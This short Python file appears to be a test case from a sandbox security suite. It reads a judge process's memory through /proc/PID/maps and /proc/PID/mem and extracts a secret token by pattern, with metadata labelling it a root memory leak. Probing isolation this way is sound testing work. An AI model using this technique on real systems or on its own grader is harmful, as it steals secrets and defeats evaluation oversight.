"""Reads the judge's memory through /proc/PID/mem.

family: secrets
answers: right
verdict: all=full
bare: fork leak:memory (root)
"""

import re

SECRET = re.compile(re.escape(target.memory_pattern).encode() + rb"[0-9a-f]{32}")


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, rights, *_, inode = line.split()[:5]
            low, high = (int(part, 16) for part in place.split("-"))
            if rights.startswith("rw") and inode == "0" and high - low < 1 << 26:
                memory.seek(low)
                yield from SECRET.findall(memory.read(high - low))


print(attempt(lambda: sorted(set(search(target.judge)))))
